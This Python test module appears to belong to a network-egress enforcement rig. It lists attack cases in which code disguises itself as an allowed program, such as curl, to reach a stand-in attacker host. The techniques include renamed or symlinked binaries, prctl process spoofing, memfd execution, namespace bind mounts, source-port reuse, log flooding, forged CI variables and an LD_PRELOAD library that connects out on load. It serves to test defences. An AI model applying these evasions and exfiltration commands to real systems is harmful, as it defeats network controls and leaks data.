"""Class 7: being somebody else. The attacker's host is allowed here for one program, or one step;
whoever else gets there is an attack."""

import os
import pathlib

from rig.attacks import ATTACKER, Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import RESOLVER

CURL = os.path.realpath("/usr/bin/curl")
FOR_CURL = f"{RESOLVER}:53/udp\n{ATTACKER}:80|443|4444 exe={CURL}\n"
FOR_STEP = f"{RESOLVER}:53/udp\n{ATTACKER}:* step=trusted\n"
FOR_ACTION = f"{RESOLVER}:53/udp\n{ATTACKER}:* action=actions/checkout\n"
FOR_IMAGE = f"{RESOLVER}:53/udp\n{ATTACKER}:* image=*\n"
FOR_DOCKER = f"{RESOLVER}:53/udp\n{ATTACKER}:* cgroup=@docker\n"

# What an impostor sends once it is in place.
SEND = f"http://{ATTACKER}/$MARKER"


# A library that sends before its program has begun.
INJECT = """
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void send_it(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    char answer[10];
    inet_pton(AF_INET, getenv("ATTACKER"), &to.sin_addr);
    if (connect(sock, (struct sockaddr *)&to, sizeof(to)) == 0) {
        write(sock, getenv("MARKER"), strlen(getenv("MARKER")));
        read(sock, answer, sizeof(answer));
    }
}
"""


def no_user_namespaces():
    for name in ("/proc/sys/user/max_user_namespaces", "/proc/sys/kernel/unprivileged_userns_clone"):
        path = pathlib.Path(name)
        if path.exists() and path.read_text().strip() == "0":
            return "user namespaces are switched off"
    return None


ATTACKS = [
    Attack("another program", "tcp()", policy=FOR_CURL),
    Attack("copied", f"cp {CURL} $FRESH/curl && $FRESH/curl -sS -m 4 {SEND}", shell=True, policy=FOR_CURL),
    Attack("linked", f"ln -s /usr/bin/python3 $FRESH/curl && $FRESH/curl -c \"$CODE\"", shell=True,
           policy=FOR_CURL),
    Attack("another argv[0]", f"bash -c 'exec -a {CURL} /usr/bin/python3 -c \"$CODE\"'", shell=True,
           policy=FOR_CURL),
    Attack("another name of the process", """
ctypes.CDLL(None).prctl(15, b"curl")  # PR_SET_NAME
tcp()""", policy=FOR_CURL),
    Attack("another path in the process's memory map", f"""
fd = os.open("{CURL}", os.O_RDONLY)
ctypes.CDLL(None).prctl(35, 13, fd, 0, 0)  # PR_SET_MM_EXE_FILE
tcp()""", policy=FOR_CURL),
    Attack("the loader runs it", "for l in /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1; do "
           f"[ -e $l ] && $l {CURL} -sS -m 4 {SEND}; done", shell=True, policy=FOR_CURL),
    Attack("from memory", """
fd = os.memfd_create("curl", 0); os.write(fd, open("/usr/bin/python3", "rb").read())
if os.fork() == 0:
    os.execv(f"/proc/self/fd/{fd}", ["/usr/bin/curl", "-c", os.environ["CODE"]])
os.wait()""", policy=FOR_CURL),
    Attack("deleted", f"cp /usr/bin/python3 $FRESH/curl && $FRESH/curl -c \"import os; "
           "os.unlink(os.environ['FRESH'] + '/curl'); $CODE\"", shell=True, policy=FOR_CURL),
    Attack("mounted over", f"unshare -Urm sh -c 'mount --bind $(readlink -f /usr/bin/python3) {CURL} && "
           f"{CURL} -c \"$CODE\"'", shell=True, policy=FOR_CURL, needs=no_user_namespaces),
    Attack("in a root of its own", f"mkdir -p $FRESH/root && unshare -Urm sh -c '"
           "mount --rbind / $FRESH/root && mount --bind $(readlink -f /usr/bin/python3) "
           f"$FRESH/root{CURL} && exec chroot $FRESH/root {CURL} -c \"$CODE\"'", shell=True,
           policy=FOR_CURL, needs=no_user_namespaces),
    Attack("connects, then becomes it", f"""
s = socket.create_connection((ATTACKER, 4444)); s.set_inheritable(True)
if os.fork() == 0:
    s.sendall(mark)
    os.execv("{CURL}", ["curl", "-sS", "-m", "1", "http://192.0.2.1/"])
os.wait(); s.recv(10)""", policy=FOR_CURL),
    Attack("connects, and becomes it at once", f"""
for _ in range(20):
    if os.fork() == 0:
        s = socket.socket(); s.setblocking(False); s.connect_ex((ATTACKER, 4444)); s.set_inheritable(True)
        try: s.send(mark)
        except OSError: pass
        os.dup2(s.fileno(), 9)
        os.execv("/bin/sh", ["sh", "-c", "exec {CURL} --version >/dev/null; sleep 1"])
    os.wait()
tcp()""", policy=FOR_CURL),
    Attack("exits before anybody looks", """
for _ in range(20):
    if os.fork() == 0:
        s = socket.create_connection((ATTACKER, 4444)); s.sendall(mark); os._exit(0)
while True:
    try: os.wait()
    except ChildProcessError: break""", policy=FOR_CURL),
    Attack("its parent is the allowed one",
           f"bash -c '{CURL} --version >/dev/null; /usr/bin/python3 -c \"$CODE\"'", shell=True,
           policy=FOR_CURL),
    Attack("its source port, after it", f"""
subprocess.run(["{CURL}", "-s", "-m", "2", "-H", "Connection: close", "--local-port", "40777", "http://" + ATTACKER + ":80/"],
               stdout=subprocess.DEVNULL)
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("", 40777))
s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)""", policy=FOR_CURL, silent=False),
    Attack("its source port and destination, after it", f"""
subprocess.run(["{CURL}", "-s", "-m", "2", "-H", "Connection: close", "--local-port", "40776", "http://" + ATTACKER + ":4444/"],
               stdout=subprocess.DEVNULL)
for _ in range(5):
    try:
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", 40776)); s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10); break
    except OSError: time.sleep(0.05)""", policy=FOR_CURL, silent=False, logged=False),
    Attack("flood, so that entries go", f"""
import threading
def flood():
    for _ in range(300):
        s = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", 9)); s.close()
threads = [threading.Thread(target=flood) for _ in range(8)]
[t.start() for t in threads]
for _ in range(3):
    try: tcp()
    except OSError: pass
[t.join() for t in threads]""", policy=FOR_CURL),
    Attack("forged step", f"GITHUB_ACTION=trusted curl -sS -m 4 {SEND}", shell=True, policy=FOR_STEP),
    Attack("forged action", f"GITHUB_ACTION_REPOSITORY=actions/checkout curl -sS -m 4 {SEND}", shell=True,
           policy=FOR_ACTION),
    Attack("forged image", f"image=x IMAGE=x curl -sS -m 4 {SEND}", shell=True, policy=FOR_IMAGE),
    Attack("forged control group", f"mkdir -p $FRESH/docker && cd $FRESH/docker && bash -c 'exec -a docker "
           f"curl -sS -m 4 {SEND}'", shell=True, policy=FOR_DOCKER),
    Attack("a library in the allowed program", "cc -shared -fPIC -o $FRESH/inject.so -xc - <<'C'\n"
           + INJECT + f"C\nLD_PRELOAD=$FRESH/inject.so {CURL} --version", shell=True, policy=FOR_CURL,
           silent=False, logged=False, open="a program that the guarded code starts obeys it: LD_PRELOAD, "
           "ptrace, configuration files; an exe rule tells programs apart, not their masters"),
]


@expand
class Identity(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
